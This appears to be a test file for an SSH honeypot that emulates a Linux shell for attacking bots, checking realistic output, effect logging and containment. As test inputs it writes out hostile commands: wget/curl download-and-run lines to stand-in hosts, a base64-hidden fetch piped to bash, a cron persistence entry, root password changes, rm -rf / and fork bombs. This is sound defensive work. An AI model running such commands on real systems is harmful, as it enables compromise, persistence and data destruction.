import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { loadIdentity } from '../identity.ts'
import { freshState, ShellPool } from './pool.ts'
import { Worlds } from './world.ts'

const { persona } = await loadIdentity(mkdtempSync(join(tmpdir(), 'skep-identity-')))
const { machine } = persona
const faults: unknown[] = []
const pool = new ShellPool(machine, (error) => faults.push(error))
const worlds = new Worlds(persona, pool)
const root = machine.users[0]!
const run = (line: string, source = '192.0.2.1', state = freshState('/root', 'root', '/bin/bash')) =>
  pool.run(worlds.of(source), { state, line, stdin: '', user: root, source, since: Date.now(), merged: false })
const out = async (line: string): Promise<string> => (await run(line)).out

afterAll(() => pool.stop())

describe('the busiest lines of real bots are answered as the real machine would', () => {
  const { cpu, memory } = machine
  const words = cpu.model.split(' ')
  test.each([
    ['cat /proc/cpuinfo | grep name | wc -l', `${cpu.cores}\n`],
    [
      "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
      `${[0, 1, 2, 3, 4, 5].map((i) => words[i] ?? '').join(' ')}\n`,
    ],
    ['cat /proc/cpuinfo | grep model | grep name | wc -l', `${cpu.cores}\n`],
    ['echo -e "\\x6F\\x6B"', 'ok\n'],
    ['echo Hi | cat -n', '     1\tHi\n'],
    [
      '/bin/./uname -s -v -n -r -m',
      `Linux ${machine.hostname} ${machine.kernel.release} ${machine.kernel.version} x86_64\n`,
    ],
    ['nproc; uname -m; whoami', `${cpu.cores}\nx86_64\nroot\n`],
    ["ps | grep '[Mm]iner'", ''],
    ['yes | head -2', 'y\ny\n'],
    ['dd bs=4 count=1 if=/bin/ls 2>/dev/null', '\x7fELF'],
    ['cat /bin/echo | head -c 4', '\x7fELF'],
    ["echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/.x; cat /tmp/.x; rm /tmp/.x", '\x7fELF'],
    ['which ls; ls -d /tmp', '/usr/bin/ls\n/tmp\n'],
    ['for i in 1 2 3; do if [ $i = 2 ]; then continue; fi; echo $i; done', '1\n3\n'],
    ["cat > /tmp/s.sh <<'EOF'\necho in $1\nEOF\nsh /tmp/s.sh a", 'in a\n'],
    ['ifconfig | grep -c inet', '4\n'],
    ['echo "cat /proc/1/mounts && ls /proc/1/" | sh | tail -1', 'status\n'],
  ])('%s', async (line, wanted) => {
    expect((await run(line)).out).toBe(wanted)
  })

  test('the numbers of different programs agree', async () => {
    expect(await out('lscpu | grep "Model name"')).toContain(cpu.model)
    expect(await out('ls -lh $(which ls)')).toMatch(
      /^-rwxr-xr-x 1 root root 144K \w{3} [ \d]\d  \d{4} \/usr\/bin\/ls\n$/,
    )
    expect(Number((await out('grep MemTotal /proc/meminfo')).match(/\d+/)?.[0])).toBe(memory.total)
    expect((await out("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'")).trim()).toMatch(/^[\d.]+[MG]$/)
    expect((await run('crontab -l')).err).toBe('no crontab for root\n')
    expect((await run('lockr -ia .ssh')).err).toBe('bash: line 1: lockr: command not found\n')
    expect((await run('/bin/busybox EBYVD')).err).toBe('EBYVD: applet not found\n')
  })
})

test('what a line does is told: fetches, passwords, persistence, files', async () => {
  const source = '192.0.2.2'
  expect(
    (await run('(wget -qO- http://198.51.100.1/r.sh||curl -s http://198.51.100.1/r.sh)|sh', source)).effects,
  ).toEqual([
    { type: 'fetch', url: 'http://198.51.100.1/r.sh', tool: 'wget' },
    // What the first did not bring, the second is to bring.
    { type: 'fetch', url: 'http://198.51.100.1/r.sh', tool: 'curl' },
  ])
  expect((await run('echo "root:x1:y"|chpasswd|bash', source)).effects).toEqual([
    { type: 'password', user: 'root', secret: 'x1:y' },
  ])
  expect((await run('echo -e "new\\nnew"|passwd|bash', source)).effects).toEqual([
    { type: 'password', user: 'root', secret: 'new' },
  ])
  const cron = await run('echo "*/5 * * * * curl http://198.51.100.1/c | bash" | crontab -; crontab -l', source)
  expect(cron.out).toBe('*/5 * * * * curl http://198.51.100.1/c | bash\n')
  expect(cron.effects[0]).toMatchObject({ type: 'persistence', method: 'cron' })
  const nested = await run('echo d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3gK | base64 -d | bash', source)
  expect(nested.effects).toEqual([{ type: 'fetch', url: 'http://198.51.100.9/x', tool: 'wget' }])
})

test('a world is its attacker’s own, and stays', async () => {
  await run('echo mine > /root/note', '192.0.2.3')
  expect((await run('cat /root/note', '192.0.2.3')).out).toBe('mine\n')
  expect((await run('cat /root/note', '192.0.2.4')).err).toContain('No such file')
  expect((await run('rm -rf /; rm -rf --no-preserve-root / 2>/dev/null; echo /etc/*', '192.0.2.4')).out.trim()).toBe(
    '/etc/*',
  )
  expect(Number((await run('ls /etc | wc -l', '192.0.2.5')).out)).toBeGreaterThan(10)
})

test('whatever a line costs, it ends, its neighbours go on, and nothing is betrayed', async () => {
  const bombs = [
    'while :; do :; done',
    ':(){ :|:& };:',
    'yes > /tmp/big',
    'cat /dev/zero | head -c 100000000 > /tmp/z',
    'seq 1e9 | tail -1',
    'x=a; while :; do x=$x$x; done',
    'find / -name "*.sh" | head -3',
    'printf %1000000000d 1',
    'echo {1..999999999}',
    "awk 'BEGIN{while(1);}'",
    'f() { f; }; f',
    'grep -E "(a+)+$" /etc/passwd; echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! | grep -E "^(a+)+$"',
    'sed ":a;s/^/x/;ba" /etc/passwd',
    '$(printf "%0.s(" {1..3000})',
  ]
  const attacks = bombs.map((line, i) => run(line, `203.0.113.${i}`))
  // Beside all of them an honest line is answered.
  expect((await run('echo still here', '192.0.2.9')).out).toBe('still here\n')
  const results = await Promise.all(attacks)
  for (const [i, { out: said, err }] of results.entries()) {
    expect(said + err, bombs[i]).not.toMatch(/executionLimits|just-bash|Parse error|security violation|limit exceeded/i)
    expect(said.length, bombs[i]).toBeLessThanOrEqual(256 * 1024)
  }
  expect((await run('echo and after', '192.0.2.9')).out).toBe('and after\n')
}, 60_000)

test('a line whose thread a neighbour cost is begun again, and has done nothing twice', async () => {
  const single = new ShellPool(machine, () => {}, { max: 1 })
  const own = new Worlds(persona, single)
  const at = (source: string, line: string) =>
    single.run(own.of(source), {
      state: freshState('/root', 'root', '/bin/bash'),
      line,
      stdin: '',
      user: root,
      source,
      since: Date.now(),
      merged: false,
    })
  const begun = performance.now()
  const slow = at('192.0.2.31', 'echo a >> /tmp/log; sleep 5; echo b >> /tmp/log; rm /etc/motd; echo done')
  await new Promise((resolve) => setTimeout(resolve, 500))
  // It holds the only thread until that is ended, with the one who sleeps.
  const hostile = at('192.0.2.32', 'while :; do :; done')
  expect((await hostile).code).toBe(137)
  expect((await slow).out).toBe('done\n')
  expect(performance.now() - begun).toBeGreaterThan(7500)
  expect((await at('192.0.2.31', 'cat /tmp/log; ls /etc/motd')).out).toBe('a\nb\n')
  await single.stop()
}, 60_000)

test('nothing reaches the host or the network', async () => {
  for (const line of ['cat /etc/hostname', 'cat /proc/sys/kernel/hostname', 'hostname', 'uname -n'])
    expect(await out(line)).toBe(`${machine.hostname}\n`)
  // The folder, the user and the programs of the decoy.
  expect(
    (await run('python3 -c "import os; print(os.getcwd(), os.listdir(\\"/srv\\")); os.system(\\"hostname\\")"')).out,
  ).toBe(`/root []\n${machine.hostname}\n`)
  expect((await run('python3 -c "print(open(\\"/etc/hostname\\").read().strip())"')).out).toBe(`${machine.hostname}\n`)
  expect((await run('node -e 1; js-exec 1; sqlite3')).out).toBe('')
  expect((await run('exec 3<>/dev/tcp/127.0.0.1/22; echo x >&3; cat <&3')).out).toBe('')
})
